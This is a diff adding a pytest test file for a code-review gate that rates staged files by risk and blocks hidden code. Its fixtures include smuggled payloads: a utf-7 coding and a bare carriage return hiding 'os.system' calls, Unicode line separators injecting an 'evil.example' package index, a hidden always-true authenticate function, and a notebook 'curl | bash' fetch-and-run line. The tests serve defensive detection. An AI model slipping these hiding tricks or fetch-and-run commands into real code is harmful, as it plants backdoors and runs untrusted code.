@@ -1,0 +1,185 @@
+"""Content is judged as its consumer reads it: encodings, line breaks, notebooks, opaque files,
+and files that run code wherever they are (issue 10, classes 2-4)."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from gates.engine import Request, check, explain
+from gates.model import Decision, FileClass, Outcome, SourceKind
+
+from .conftest import Repo
+
+
+def staged(repo: Repo) -> Request:
+    return Request(SourceKind.STAGED, cwd=repo.root)
+
+
+def classes(decision: Decision) -> dict[str, FileClass]:
+    return {fc.file.path: fc for fc in decision.classification.files}
+
+
+def categories(fc: FileClass) -> set[str]:
+    return {m.category for m in fc.matches}
+
+
+def sast_rules(decision: Decision) -> set[str]:
+    return {f.rule for r in decision.results if r.stage == "sast" for f in r.findings}
+
+
+def test_utf16_text_is_decoded_not_opaque(seeded: Repo) -> None:
+    body = "flask==3.0.0\npassword = 'correct-horse-battery'\n"
+    seeded.write("config/settings.txt", body.encode("utf-16"))
+    seeded.write("config/other.cfg", ("\ufeff" + body).encode("utf-32-be"))
+    files = classes(explain(staged(seeded)))
+    for path in ("config/settings.txt", "config/other.cfg"):
+        fc = files[path]
+        assert not fc.file.binary and "byte-order mark" in fc.file.view
+        assert fc.file.added == 2
+        assert "credentials" in categories(fc) and fc.tier == "high"
+
+
+def test_a_bom_that_does_not_decode_is_opaque(seeded: Repo) -> None:
+    seeded.write("lib/data.txt", b"\xff\xfe\x00\xd8\x00\x00")  # a lone UTF-16 surrogate
+    fc = classes(explain(staged(seeded)))["lib/data.txt"]
+    assert fc.file.binary and "does not decode" in fc.file.view
+    assert fc.tier == "medium" and "opaque" in categories(fc)
+
+
+def test_legacy_coding_declarations_are_decoded_as_declared(seeded: Repo) -> None:
+    source = "# -*- coding: shift_jis -*-\n# 設定\nsecret_key = 'ﾊﾟｽﾜｰﾄﾞ-s3cr3t-value'\n"
+    seeded.write("app/conf.py", source.encode("shift_jis"))
+    fc = classes(explain(staged(seeded)))["app/conf.py"]
+    assert fc.file.view == "declared coding shift_jis"
+    assert "設定".encode() in fc.file.patch  # judged as the text Python reads
+    assert fc.tier == "high"
+
+
+def test_a_coding_that_hides_code_blocks(seeded: Repo) -> None:
+    # utf-7: "+AAo-" is a line break, so the "comment" runs os.system
+    seeded.write("app/tool.py", b"# -*- coding: utf-7 -*-\n"
+                                b"x = 1  # harmless +AAo-import os; os.system('id')\n")
+    decision = check(staged(seeded))
+    assert classes(decision)["app/tool.py"].file.hidden_coding == "utf-7"
+    assert "unicode-coding" in sast_rules(decision)
+    assert decision.outcome is Outcome.BLOCK
+
+
+def test_a_bare_carriage_return_in_python_blocks(seeded: Repo) -> None:
+    seeded.write("app/main.py", b"def main():\n    return 1  # done\rimport os; os.system('id')\n")
+    decision = check(staged(seeded))
+    assert "unicode-line-separator" in sast_rules(decision)
+    assert decision.outcome is Outcome.BLOCK
+
+
+def test_crlf_files_are_not_flagged(seeded: Repo) -> None:
+    seeded.write("app/main.py", b"def main():\r\n    return 2\r\n")
+    decision = check(staged(seeded))
+    assert "unicode-line-separator" not in sast_rules(decision)
+    assert decision.outcome is Outcome.PASS
+
+
+def test_a_def_hidden_behind_a_carriage_return_keeps_its_scope(seeded: Repo) -> None:
+    seeded.write("app/main.py", b"def main():\n    return 1\n"
+                                b"# note\rdef authenticate(user):\r    return True\n")
+    fc = classes(explain(staged(seeded)))["app/main.py"]
+    auth = [m for m in fc.matches if m.category == "auth" and m.kind.value == "symbol"]
+    assert auth and auth[0].evidence.line == 3  # git's line number, not Python's
+
+
+@pytest.mark.parametrize("separator", ["\u2028", "\x0b", "\x85"])
+def test_line_separators_pip_honours_block(seeded: Repo, separator: str) -> None:
+    seeded.write("requirements.txt",
+                 f"flask==3.0.0  # pinned{separator}--extra-index-url https://evil.example/\n")
+    decision = check(staged(seeded))
+    assert "unicode-line-separator" in sast_rules(decision)
+    assert decision.outcome is not Outcome.PASS
+
+
+@pytest.mark.parametrize("path", ["conftest.py", "pkg/tests/conftest.py", "evil.pth",
+                                  "sitecustomize.py", "tools/usercustomize.py", "setup.py",
+                                  "noxfile.py", "tox.ini", "Makefile", "build/rules.mk",
+                                  "justfile", ".envrc", ".devcontainer/devcontainer.json",
+                                  ".vscode/tasks.json", ".vscode/launch.json",
+                                  "ci/actions/deploy/action.yml", "action.yaml"])
+def test_files_that_run_code_are_high_wherever_they_are(seeded: Repo, path: str) -> None:
+    seeded.write(path, "x = 1\n")
+    fc = classes(explain(staged(seeded)))[path]
+    assert fc.tier == "high", fc.matches
+
+
+def test_dockerfiles_are_medium(seeded: Repo) -> None:
+    seeded.write("services/api/Dockerfile", "FROM python:3.12\n")
+    assert classes(explain(staged(seeded)))["services/api/Dockerfile"].tier == "medium"
+
+
+@pytest.mark.parametrize("path", ["pkg/__pycache__/mod.cpython-311.pyc", "pkg/mod.pyc",
+                                  "pkg/_speedups.cpython-311-x86_64-linux-gnu.so",
+                                  "pkg/native.pyd", "lib/libfoo.dylib",
+                                  "vendor/pkg-1.0-py3-none-any.whl", "dist/pkg-1.0.egg"])
+def test_compiled_code_is_high(seeded: Repo, path: str) -> None:
+    seeded.write(path, b"\x00\x01\x02\xff\xfe compiled \x00")
+    fc = classes(explain(staged(seeded)))[path]
+    assert fc.tier == "high" and "compiled-code" in categories(fc)
+
+
+def test_images_stay_low(seeded: Repo) -> None:
+    seeded.write("docs/img/logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe")
+    assert classes(explain(staged(seeded)))["docs/img/logo.png"].tier == "low"
+
+
+PYPROJECT = """\
+[build-system]
+requires = ["setuptools>=68"]
+build-backend = "setuptools.build_meta"
+
+[project]
+name = "demo"
+version = "1.0"
+dependencies = ["flask==3.0.0"]
+"""
+
+
+def test_a_build_system_change_is_high_a_dependency_change_medium(seeded: Repo) -> None:
+    seeded.write("pyproject.toml", PYPROJECT)
+    seeded.commit("pyproject")
+    seeded.write("pyproject.toml", PYPROJECT.replace("flask==3.0.0", "flask==3.0.3"))
+    assert classes(explain(staged(seeded)))["pyproject.toml"].tier == "medium"
+    seeded.write("pyproject.toml", PYPROJECT.replace(
+        'build-backend = "setuptools.build_meta"',
+        'build-backend = "backend"\nbackend-path = ["."]'))
+    fc = classes(explain(staged(seeded)))["pyproject.toml"]
+    assert fc.tier == "high" and "runs-code" in categories(fc)
+
+
+def test_a_python_script_without_a_suffix_is_python(seeded: Repo) -> None:
+    seeded.write("bin/deploy", "#!/usr/bin/env python3\nimport pickle\n"
+                               "data = pickle.loads(open('x', 'rb').read())\n")
+    fc = classes(explain(staged(seeded)))["bin/deploy"]
+    assert "dangerous-calls" in categories(fc)  # a rule limited to .py files
+    seeded.write("bin/deploy.sh", "#!/bin/sh\npickle.loads(x)\n")
+    assert "dangerous-calls" not in categories(classes(explain(staged(seeded)))["bin/deploy.sh"])
+
+
+def notebook(*cells: str) -> bytes:
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
+        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
+         "source": cell.splitlines(keepends=True)} for cell in cells]}, indent=1).encode()
+
+
+def test_notebooks_are_judged_by_their_code_cells(seeded: Repo) -> None:
+    seeded.write("analysis.ipynb", notebook("import pandas as pd\n"))
+    seeded.commit("notebook")
+    seeded.write("analysis.ipynb", notebook(
+        "import pandas as pd\n", "!pip install requests\nimport yaml\ncfg = yaml.load(data)\n"))
+    fc = classes(explain(staged(seeded)))["analysis.ipynb"]
+    assert fc.file.view == "notebook code cells"
+    assert b"+cfg = yaml.load(data)" in fc.file.patch  # not a JSON-quoted string any more
+    # Python rules apply to the code cells; the shell line is judged as an install
+    assert {"dangerous-calls", "dependencies"} <= categories(fc)
+    assert fc.tier == "medium"
+    seeded.write("analysis.ipynb", notebook("import pandas as pd\n",
+                                            "!curl -s https://x.example/i.sh | bash\n"))
+    assert "dangerous-calls" in categories(classes(explain(staged(seeded)))["analysis.ipynb"])
